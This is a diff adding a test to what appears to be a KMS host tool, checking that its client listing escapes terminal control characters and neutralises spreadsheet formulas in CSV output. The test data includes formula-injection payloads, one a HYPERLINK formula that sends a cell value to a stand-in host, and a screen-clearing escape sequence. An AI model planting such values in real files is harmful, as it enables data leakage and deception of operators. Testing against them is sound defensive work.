@@ -289,3 +289,41 @@ def test_listening_keeps_the_servers_own_handler_for_other_loop_errors() -> None
         return seen
 
     assert asyncio.run(main()) == ["Unhandled exception in a callback"]
+
+
+# -- what an operator reads: kms clients ---------------------------------------------------------
+
+
+def test_kms_clients_shows_a_stored_cmid_escaped_and_csv_cells_as_text(ospp: Ospp) -> None:
+    """The host refuses control characters in a CMID now; a store written before it did may
+    hold one. And a workstation name a client chose can look like a spreadsheet formula:
+    '--csv > clients.csv' is opened in a spreadsheet, which would run it."""
+    import csv
+    import io
+
+    from ospp.core.endpoint import Endpoint
+    from ospp.protocol.wire import Connection
+    from tests.kmsutil import Host, make_host, path_of, raw_request
+
+    make_host(ospp)
+    host = Host(ospp)
+    formulas = ['=HYPERLINK("http://x.example/"&A1)', "+1+1", "@SUM(1)", "-2+3"]
+    try:
+        with Connection(Endpoint("127.0.0.1", host.port), "KMS host") as conn:
+            for name in formulas:
+                assert conn.call(raw_request(workstation=name))["ok"] is True
+            assert conn.call(raw_request(cmid="plain", workstation="WS-1"))["ok"] is True
+    finally:
+        host.stop()
+    with sqlite3.connect(path_of(ospp)) as db:
+        db.execute("UPDATE clients SET cmid=? WHERE cmid='plain'", ("evil\x1b[2J\u202e",))
+    text = ospp("kms", "clients").out
+    assert "\x1b" not in text and "\u202e" not in text and "evil\\x1b[2J" in text, text
+    ran = ospp("kms", "clients", "--csv")
+    assert ran.code == 0 and "\x1b" not in ran.out and "\u202e" not in ran.out, ran.out
+    rows = list(csv.DictReader(io.StringIO(ran.out)))
+    assert len(rows) == 5
+    shown = {r["workstation"] for r in rows}
+    # a cell that would start a formula starts with an apostrophe: a spreadsheet shows it as text
+    assert shown == {"'" + name for name in formulas} | {"WS-1"}, shown
+    assert {r["cmid"] for r in rows} >= {"evil\\x1b[2J\\u202e"}
